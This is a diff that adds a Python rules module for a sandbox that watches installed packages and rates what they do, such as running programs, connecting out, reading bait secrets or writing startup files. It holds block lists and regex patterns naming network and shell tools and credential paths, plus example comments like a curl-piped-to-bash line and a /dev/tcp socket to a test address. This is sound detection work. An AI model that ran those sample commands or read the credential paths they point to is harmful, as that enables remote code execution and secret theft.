@@ -1,0 +1,342 @@
+"""The rules: what is said of one event. Pure functions; above each rule is an example of it.
+
+The subject of every title is the package. A rule that has nothing to say returns None.
+"""
+
+import re
+from typing import assert_never
+
+from jail.orders import WORK_IN_JAIL
+from jail.report.places import what_waits_at
+from jail.report.text import plain
+from jail.watch.events import (
+    NOBODY,
+    Actor,
+    BaitLeaked,
+    BaitRead,
+    Change,
+    Code,
+    Connection,
+    DependencyDenied,
+    Downloaded,
+    Event,
+    Exec,
+    FailedOften,
+    FileChanged,
+    Finding,
+    IndexRefused,
+    LeftAtWork,
+    NameAsked,
+    Net,
+    Phase,
+    PhaseName,
+    ProcessEnded,
+    Rule,
+    Severity,
+    StartupCode,
+    TraceContradicted,
+    TraceCut,
+    WitnessTampered,
+    is_near,
+    plain_path,
+)
+
+MAX_TITLE_CHARS = 300
+
+# Programs that no package needs to be installed or imported, by what they serve to do, with the
+# technique's number in MITRE ATT&CK.
+GRAVE_PROGRAMS = {
+    "fetch or send (T1105, T1048)": "curl wget nc ncat netcat socat telnet scp sftp ftp tftp rsync",
+    "reach another machine (T1021)": "ssh",
+    "ask for names (T1018)": "dig nslookup host ping",
+    "run another system's scripts (T1059)": "powershell pwsh osascript",
+    "come back later (T1053, T1543)": "crontab at systemctl",
+    "change accounts, files, the kernel (T1136, T1222, T1547)": "useradd usermod chattr insmod",
+    "mine (T1496)": "xmrig",
+    "hide or open what is hidden (T1140)": "gpg openssl xxd base64",
+}
+GRAVE_NAMES = frozenset(" ".join(GRAVE_PROGRAMS.values()).split())
+# One program with the work of many: its first argument says which.
+MANY_IN_ONE = {"busybox", "toybox"}
+# The same in the words of a shell, with a pipe into a shell, a socket of bash, keys, passwords.
+#   sh -c "curl -s http://x | bash"      bash -c "exec 3<>/dev/tcp/192.0.2.1/80"
+GRAVE_WORDS = re.compile(
+    r"/dev/tcp/|base64 (?:-d|--decode)|\b(?:curl|wget|nc|crontab|systemctl) "
+    r"|\| *(?:ba|z|da)?sh\b|\.ssh/|/etc/shadow"
+)
+# A program without a file that could be looked at: in memory, by a descriptor, by another process.
+NO_FILE = re.compile(r"\(a file without a name\)|/proc/(?!self/exe$)|/dev/fd/|/memfd:")
+# Where a package can put a program at run time; a relative path can only lead there, too.
+WRITABLE = (
+    "/tmp/",  # noqa: S108 - a pattern, not a file of ours
+    "/var/tmp/",  # noqa: S108
+    "/dev/shm/",  # noqa: S108
+    "/home/",
+    WORK_IN_JAIL + "/tmp/",
+    WORK_IN_JAIL + "/home/",
+)
+INTERPRETER = re.compile(r"(?:ba|da|z)?sh|python[0-9.]*|perl")
+# The system's own tools that a build starts. A package's own program may have any name, so that the
+# whole path counts. Samples: /usr/bin/x86_64-linux-gnu-gcc-12, /usr/lib/gcc/x86_64-linux-gnu/12/cc1
+BUILD_TOOL = re.compile(
+    r"(/usr)?(/local)?/(s?bin|lib/gcc/.*)/([a-z0-9_]+-)*"
+    r"(gcc|g\+\+|cc|c\+\+|clang|clang\+\+|ld|as|ar|ranlib|cc1|cc1plus|collect2|strip|make|gmake"
+    r"|cmake|ninja|meson|rustc|cargo|swig|cython|pkg-config|git|uname|ldconfig|lsb_release|which"
+    r"|gfortran|f951|llvm-config|install|patchelf)(-[0-9.]+)?"
+)
+# Services of a developer's machine that do what they are told: whoever reaches one is its master.
+SERVICE_SOCKET = re.compile(
+    r"unix:.*(?:docker|containerd|podman|crio)[^/]*\.sock|unix:/tmp/ssh-[^/]*/agent\..*"
+)
+# Generated code that only saves typing has no use for these; attrs writes one import of its own.
+BUSY_CODE = re.compile(
+    r"\b(exec|eval|__import__)\s*\((?!'attr\._make'\))|b64decode|marshal|subprocess|os\.system"
+    r"|urlopen|ctypes"
+)
+VERBS = {Net.TCP: "connects (tcp) to", Net.UDP: "sends (udp) to"}
+# What pip leaves behind when it is stopped: what it had unpacked so far, which no Python looks at.
+PIP_STAGING = re.compile(r"/tmp/pip-[^/]+/.*", re.DOTALL)  # noqa: S108
+ALTERED_CODE = re.compile(r".*\.(?:pyc?|so)|.*/bin/[^/]+", re.DOTALL)
+# What a function does that is called with made-up arguments is what it is for.
+CALLED_FOR = {Rule.NETWORK_ATTEMPT, Rule.PROCESS_SPAWN}
+
+
+def judge(phase: Phase, event: Event) -> tuple[Finding, ...]:
+    """The findings of an event: what its rule says, and whether Python's own witness was evaded."""
+    actor = getattr(event, "actor", NOBODY)
+    found = rule_for(phase, event)
+    if found is None:
+        return ()
+    findings = [] if is_own(event) else [found]
+    if actor.hidden:
+        findings.append(hidden(found))
+    return tuple(findings)
+
+
+def rule_for(phase: Phase, event: Event) -> Finding | None:
+    """The one rule for each kind of event."""
+    match event:
+        case Exec():
+            return command(phase, event)
+        case Connection():
+            return connection(phase, event)
+        case NameAsked():
+            return name(phase, event)
+        case FileChanged():
+            return changed_file(phase, event)
+        case StartupCode():
+            return startup_code(phase, event)
+        case Code():
+            return code(event)
+        case BaitRead():
+            return read_bait(event)
+        case BaitLeaked():
+            return leaked_bait(event)
+        case WitnessTampered() | TraceContradicted() | TraceCut() | FailedOften():
+            return tampered(event)
+        case LeftAtWork():
+            title = f"left {event.count} processes at work, which were ended with the phase"
+            return finding(Severity.MEDIUM, Rule.LIMIT_HIT, title, Actor(process=event.process))
+        case Downloaded() | IndexRefused() | DependencyDenied() | ProcessEnded():
+            return None
+    assert_never(event)
+
+
+def is_own(event: Event) -> bool:
+    """Whether it is the launcher's or pip's doing, and no business of the package.
+
+    A requirement by URL leads pip itself astray: of hosts, nothing but its index is its own to ask.
+    """
+    match event:
+        case Exec():
+            return event.actor.own
+        case Connection():
+            return event.actor.own and is_near(event.target)
+    return False
+
+
+def finding(
+    severity: Severity, rule: Rule, title: str, actor: Actor = NOBODY, place: str | None = None
+) -> Finding:
+    """A finding whose title is safe to show; place and process are cleaned where they are shown."""
+    return Finding(
+        severity, rule, plain(title, MAX_TITLE_CHARS), place or actor.place, actor.process or None
+    )
+
+
+# A Python with the hook starts "true" by a bare system call: high witness.hidden
+# "from Python, but unseen by Python's own witness: runs true"
+def hidden(found: Finding) -> Finding:
+    title = f"from Python, but unseen by Python's own witness: {found.title}"
+    return finding(Severity.HIGH, Rule.WITNESS_HIDDEN, title, Actor(process=found.process or ""))
+
+
+# Exec("/usr/bin/curl", ("curl", "http://x"), ...): high process.spawn "runs curl http://x"
+def command(phase: Phase, event: Exec) -> Finding:
+    words = " ".join(event.argv)
+    called = event.argv[0] if event.argv else ""
+    if event.program.rpartition("/")[2] != called.rpartition("/")[2]:
+        words = f"{event.program} as {words}"
+    error = f" ({event.error})" if event.error else ""
+    severity = softened(phase, Rule.PROCESS_SPAWN, command_severity(phase, event))
+    return finding(severity, Rule.PROCESS_SPAWN, f"runs {words}{error}", event.actor)
+
+
+def command_severity(phase: Phase, event: Exec) -> Severity:
+    program, argv = plain_path(event.program), event.argv
+    names = {program.rpartition("/")[2], *(word.rpartition("/")[2] for word in argv[:1])}
+    if names & MANY_IN_ONE:
+        names |= set(argv[1:2])
+    if names & GRAVE_NAMES or NO_FILE.match(program):
+        return Severity.HIGH
+    if GRAVE_WORDS.search(" ".join((event.program, *argv))):
+        return Severity.HIGH
+    # A build may run what it has just unpacked or compiled; nothing else has a reason to.
+    if phase.name != PhaseName.INSTALL and is_dropped(program, argv):
+        return Severity.HIGH
+    if event.pool_helper or BUILD_TOOL.fullmatch(program):
+        return Severity.INFO
+    return Severity.MEDIUM
+
+
+def is_dropped(program: str, argv: tuple[str, ...]) -> bool:
+    """Whether the program, or the script that an interpreter is given, lies where a package writes.
+
+    The script is the first word that is neither a flag nor a flag's value. After -c and -m comes
+    what is executed, and nothing behind it is a script.
+    """
+    if not program.startswith("/") or program.startswith(WRITABLE):
+        return True
+    if not INTERPRETER.fullmatch(program.rpartition("/")[2]):
+        return False
+    flag = ""
+    for word in argv[1:]:
+        if word.startswith("-"):
+            flag = word
+        elif plain_path(word).startswith(WRITABLE):
+            return True
+        elif not flag or flag.endswith(("c", "m")):
+            return False
+        else:
+            flag = ""
+        if flag.endswith("m"):
+            return False
+    return False
+
+
+# Connection(Net.TCP, "192.0.2.1:443", ...): high network.attempt "connects (tcp) to 192.0.2.1:443"
+# A listener that others can reach: medium "listens on 0.0.0.0:80"; on the loopback: info.
+def connection(phase: Phase, event: Connection) -> Finding:
+    near, verb = is_near(event.target), VERBS.get(event.net, "uses")
+    if event.listens:
+        verb, severity = "listens on", Severity.INFO if near else Severity.MEDIUM
+    elif event.net != Net.OTHER:
+        severity = Severity.MEDIUM if near else Severity.HIGH
+    elif near and not SERVICE_SOCKET.fullmatch(event.target):
+        severity = Severity.INFO
+    else:
+        severity = Severity.MEDIUM
+    severity = softened(phase, Rule.NETWORK_ATTEMPT, severity)
+    return finding(severity, Rule.NETWORK_ATTEMPT, f"{verb} {event.target}", event.actor)
+
+
+# NameAsked("evil.example", ...): high network.attempt "asks for the name evil.example"
+# When it is run, that a program asks for a name is only worth a look: many exist to do that.
+def name(phase: Phase, event: NameAsked) -> Finding:
+    severity = Severity.MEDIUM if phase.name == PhaseName.EXECUTE else Severity.HIGH
+    severity = softened(phase, Rule.NETWORK_ATTEMPT, severity)
+    title = f"asks for the name {event.name}"
+    return finding(severity, Rule.NETWORK_ATTEMPT, title, event.actor)
+
+
+def softened(phase: Phase, rule: Rule, severity: Severity) -> Severity:
+    is_called_for = phase.name == PhaseName.CALL and rule in CALLED_FOR
+    return Severity.INFO if is_called_for else severity
+
+
+# FileChanged("/home/dev/.bashrc", Change.MODIFIED, ...): high persistence.write
+# "modified /home/dev/.bashrc (shell start)". A file is judged by every name that leads to it.
+def changed_file(phase: Phase, event: FileChanged) -> Finding | None:
+    graves = []
+    for number, path in enumerate((event.path, *event.other_paths)):
+        severity, why = path_severity(phase, event, plain_path(path))
+        if severity:
+            graves.append((list(Severity).index(severity), number, severity, path, why))
+    if not graves:
+        return None
+    _, _, severity, path, why = min(graves)
+    title = f"{event.change} {path}"
+    if path != event.path:
+        title += f" by way of {event.path}"
+    title += f" ({why})"
+    return finding(severity, Rule.PERSISTENCE_WRITE, title, event.actor, event.place)
+
+
+def path_severity(phase: Phase, event: FileChanged, path: str) -> tuple[Severity | None, str]:
+    """How grave a change is under one of the file's names, and why; None for an everyday one."""
+    if phase.name == PhaseName.INSTALL and PIP_STAGING.fullmatch(path):
+        return None, ""
+    if kind := what_waits_at(path):
+        return Severity.HIGH, kind
+    if event.change == Change.DELETED:
+        return None, ""
+    if event.shadows:
+        return Severity.HIGH, f"Python finds it in place of {event.shadows}"
+    if not path.startswith(f"{WORK_IN_JAIL}/site/"):
+        return None, ""
+    is_altered = event.change == Change.MODIFIED and phase.name != PhaseName.INSTALL
+    if is_altered and ALTERED_CODE.fullmatch(path):
+        return Severity.HIGH, "installed code"
+    return Severity.MEDIUM, "among what is installed"
+
+
+# StartupCode("/…/x.pth", "import evil"): medium pth.code
+# "/…/x.pth runs code at every interpreter start: import evil"
+def startup_code(phase: Phase, event: StartupCode) -> Finding | None:
+    if phase.name == PhaseName.INSTALL and PIP_STAGING.fullmatch(plain_path(event.path)):
+        return None
+    title = f"{event.path} runs code at every interpreter start: {event.line}"
+    return finding(Severity.MEDIUM, Rule.PTH_CODE, title, place=event.path)
+
+
+# Code(decoded=True, ...): high code.dynamic "executes decoded code, 120 bytes"
+def code(event: Code) -> Finding:
+    if event.decoded:
+        severity, how = Severity.HIGH, "decoded"
+    else:
+        severity = Severity.MEDIUM if BUSY_CODE.search(event.text) else Severity.INFO
+        how = "generated"
+    title = f"executes {how} code, {event.size_bytes} bytes"
+    return finding(severity, Rule.CODE_DYNAMIC, title, place=event.place)
+
+
+# BaitRead("/home/dev/.ssh/id_rsa", ...): high secret.read "reads or touches /home/dev/.ssh/id_rsa"
+def read_bait(event: BaitRead) -> Finding:
+    title = f"reads or touches {event.path}"
+    return finding(Severity.HIGH, Rule.SECRET_READ, title, place=event.place)
+
+
+# BaitLeaked("NPM_TOKEN", "command curl x"): high secret.read
+# "passes on NPM_TOKEN in command curl x"
+def leaked_bait(event: BaitLeaked) -> Finding:
+    title = f"passes on {event.name} in {event.where}"
+    return finding(Severity.HIGH, Rule.SECRET_READ, title, event.actor)
+
+
+# TraceContradicted("connect to unix:/x: ENETUNREACH", ...): high evidence.tamper. The trace is what
+# the jail must not be able to lie to; the Python witness can be, and so is worth less.
+# FailedOften: who waits for a server of its own on this machine does the same.
+def tampered(event: WitnessTampered | TraceContradicted | TraceCut | FailedOften) -> Finding:
+    severity, actor = Severity.HIGH, getattr(event, "actor", NOBODY)
+    match event:
+        case WitnessTampered():
+            severity, title = Severity.MEDIUM, f"the Python witness: {event.reason}"
+        case TraceContradicted():
+            title = f"shows the trace another call than it makes: {event.what}"
+        case TraceCut():
+            title = f"makes a {event.call} whose trace is too long to be kept whole"
+        case FailedOften():
+            is_waiting = event.error == "ECONNREFUSED" and is_near(event.what)
+            severity = Severity.INFO if is_waiting else Severity.MEDIUM
+            title = f"tries {event.count} times in vain: {event.what} ({event.error})"
+    return finding(severity, Rule.EVIDENCE_TAMPER, title, actor)
